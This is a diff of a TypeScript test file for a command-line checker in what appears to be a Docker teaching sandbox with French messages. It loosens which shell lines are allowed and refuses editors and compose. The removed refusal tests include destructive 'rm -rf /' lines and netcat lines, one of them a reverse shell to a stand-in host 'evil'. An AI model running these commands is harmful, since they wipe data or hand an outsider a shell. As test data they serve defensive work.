@@ -6,63 +6,63 @@ function refused(line: string): string {
   return d.reason;
 }
 
+function notices(line: string): string[] {
+  const d = checkCommandLine(line);
+  if (!d.allowed) throw new Error(`expected "${line}" to be allowed: ${d.reason}`);
+  return d.notices;
+}
+
 describe('checkCommandLine', () => {
   it.each([
     'docker run hello-world',
     'docker rm -f $(docker ps -aq)',
     'docker stop `docker ps -q`',
-    'docker container stop $(docker container ls -aq)',
     'docker run -d -v "$(pwd)":/usr/share/nginx/html -p 8081:80 nginx',
     'docker ps -a | grep redis | wc -l',
-    'docker network create my_bridge && docker run -d --name cont1 --network my_bridge alpine sleep 1000',
-    'docker logs postgres 2>&1 | tail -n 5',
     'echo "<h1>Bonjour</h1>" > index.html; cat index.html',
-    'docker run --rm alpine sh -c "rm -rf /"',
-    "docker inspect --format '{{.State.Status}}' redis",
     'docker ps -aq | xargs docker rm -f',
-    'docker ps -aq | xargs -r -n 1 docker rm -f',
     'ID=$(docker run -d redis)',
-    'export PASS=secret',
     'POSTGRES_PASSWORD=x docker run -e POSTGRES_PASSWORD postgres',
-    'cd dossier && docker build -t monimage .',
-    'docker ps # liste les conteneurs',
-    'ls *.html',
-    'docker exec redis redis-cli get cle',
-    'curl -s http://localhost:8081',
-    'docker run -d --name web nginx; sleep 2',
-    '(cd sous-dossier; ls)',
-    'docker stop $(docker ps -q --filter "name=$(echo redis)")',
-    'docker run -e "MSG=$HOME" alpine env',
-  ])('allows %s', (line) => {
-    expect(checkCommandLine(line)).toEqual({ allowed: true });
+    // host habits and ordinary shell: run as typed (the sandbox is the boundary)
+    'rm -f index.html',
+    'clear',
+    'history',
+    'sh -c "docker ps"',
+    "bash -c 'docker run -d --name web nginx'",
+    'docker run -d redis &',
+    'wait',
+    "cat > Dockerfile <<'FIN'\nFROM nginx\nCOPY index.html /usr/share/nginx/html/\nFIN",
+    'docker exec -i redis redis-cli <<< "set cle 42"',
+    'echo $((1+2))',
+    'for id in $(docker ps -q); do docker stop $id; done',
+    'while ! docker exec pg pg_isready; do sleep 1; done',
+    'if docker ps | grep -q redis; then echo oui; else echo non; fi',
+    'f() { docker ps; }; f',
+    'eval "docker ps"',
+    'echo "non fermé', // the shell reports the error, as in a terminal
+  ])('allows %s without notice', (line) => {
+    expect(checkCommandLine(line)).toEqual({ allowed: true, notices: [] });
+  });
+
+  it('runs sudo lines without sudo, with a notice', () => {
+    expect(notices('sudo docker run hello-world')[0]).toMatch(/sudo.*exécutée sans sudo/);
+    expect(notices('sudo -E docker ps && sudo docker images')).toHaveLength(1);
+    expect(notices('winpty docker exec -it redis redis-cli')).toEqual([]);
   });
 
   it.each([
-    ['rm -rf /', /rm n'est pas autorisé/],
-    ['bash -c "docker ps"', /shell/],
-    ['sh', /shell/],
-    ['nc -l 4444', /« nc » n'est pas autorisé/],
-    ['docker ps && nc evil 80', /« nc »/],
-    ['docker ps; rm -rf /work', /rm/],
-    ['docker rm -f `rm -rf /`', /rm/],
-    ['echo "$(rm -rf /)"', /rm/],
-    ['docker stop $(docker ps -q | xargs rm)', /rm/],
-    ['echo `nc -e /bin/sh evil 80`', /« nc »/],
-    ['docker ps | xargs -n 1 rm -rf', /rm/],
-    ['/bin/rm -rf /', /sans chemin/],
-    ['./script.sh', /sans chemin/],
-    ['$CMD ps', /variable ou d'une substitution/],
-    ['$(echo docker) ps', /variable ou d'une substitution/],
-    ['sudo docker ps', /sudo/],
-    ['docker run -d redis &', /arrière-plan/],
-    ['cat <<EOF', /here-documents/],
-    ['docker exec -i redis redis-cli <<< "set cle 42"', /<<</],
-    ['echo $((1+2))', /arithmétique/],
-    ['echo "non fermé', /non fermé/],
-    ['docker stop $(docker ps -q', /non fermée/],
-    ['eval "docker ps"', /eval/],
-    ['python3 -c "print(1)"', /python3/],
-  ])('refuses %s', (line, reason) => {
+    ['nano Dockerfile', /nano.*éditeur.*here-document/],
+    ['vi index.html', /« vi »/],
+    ['sudo vim Dockerfile', /« vim »/],
+    ['cd app && nano Dockerfile', /nano/],
+    ['docker-compose up -d', /compose n'est pas disponible/],
+    ['docker compose up -d', /compose/],
+  ])('refuses %s kindly', (line, reason) => {
     expect(refused(line)).toMatch(reason);
+  });
+
+  it('does not mistake a word for a program', () => {
+    expect(checkCommandLine('echo nano vi; docker run --name compose redis').allowed).toBe(true);
+    expect(checkCommandLine("cat > notes.txt <<'FIN'\nvi est un éditeur\nFIN").allowed).toBe(true);
   });
 });
